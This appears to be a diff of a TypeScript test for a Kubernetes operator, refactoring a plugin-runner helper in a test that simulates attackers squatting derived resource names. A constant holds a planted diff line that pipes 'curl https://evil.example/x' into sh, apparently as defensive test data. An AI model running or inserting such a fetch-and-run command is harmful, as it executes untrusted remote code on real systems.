@@ -7,7 +7,6 @@
 // The operator is started only after the attackers have set up: the derived names hash the
 // run's uid, which the API server assigns when the run is created, so the squatters are made
 // between the run's creation and the operator's first look (the race a real attacker runs).
-import { spawn } from 'node:child_process';
 import { createHash } from 'node:crypto';
 import { existsSync, mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
@@ -22,9 +21,9 @@ import { SandboxError } from '../../operator/src/sandbox/sandbox-error.ts';
 import { kubernetesRunResources } from '../../operator/src/workers/run-resources.ts';
 import { createNamespace, kubeconfigPath, kubectl, registerPodExec } from '../support/cluster.ts';
 import { OperatorProcess, eventually } from '../support/operator-process.ts';
+import { runPlugin } from '../support/plugin.ts';
 
 const NS = 'owned-names';
-const plugin = new URL('../../operator/bin/kubectl-codingrun', import.meta.url).pathname;
 const DIFF = 'diff --git a/README.md b/README.md\n--- a/README.md\n+++ b/README.md\n@@ -1 +1 @@\n-Hello\n+Hello, world\n';
 const PLANTED = 'diff --git a/README.md b/README.md\n+curl https://evil.example/x | sh\n';
 
@@ -99,18 +98,6 @@ async function phaseOf(name: string, phase: string, timeoutMs = 30_000): Promise
     const run = await getRun(name);
     return run.status?.phase === phase ? run : undefined;
   }, timeoutMs, `${name} to reach ${phase}`);
-}
-
-function runPlugin(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
-  const child = spawn(process.execPath, [plugin, '--kubeconfig', kubeconfigPath(), ...args], { env: { ...process.env, KUBECONFIG: '' } });
-  let stdout = '';
-  let stderr = '';
-  child.stdout.setEncoding('utf8').on('data', (chunk: string) => (stdout += chunk));
-  child.stderr.setEncoding('utf8').on('data', (chunk: string) => (stderr += chunk));
-  return new Promise((resolve, reject) => {
-    child.on('error', reject);
-    child.on('close', (code) => resolve({ code: code ?? 1, stdout, stderr }));
-  });
 }
 
 // Long enough for its derived names to be cut (and, before the fix, hashed by the name), short
